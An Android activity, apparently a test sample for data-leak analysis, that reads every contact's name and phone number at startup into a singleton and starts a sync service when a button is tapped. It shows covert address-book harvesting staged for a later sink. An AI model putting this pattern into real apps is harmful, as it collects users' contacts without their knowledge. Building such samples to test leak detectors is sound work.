package com.example.singleton;

import android.app.Activity;
import android.content.Intent;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.Button;

/** Reads at start; the tap only starts the service. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        readAll();
        Button button = new Button(this);
        button.setOnClickListener(view -> startService(new Intent(this, SyncService.class)));
        setContentView(button);
    }

    private void readAll() {
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            Session.get().book += cursor.getString(0) + "," + cursor.getString(1) + "\n";
        }
        cursor.close();
    }
}
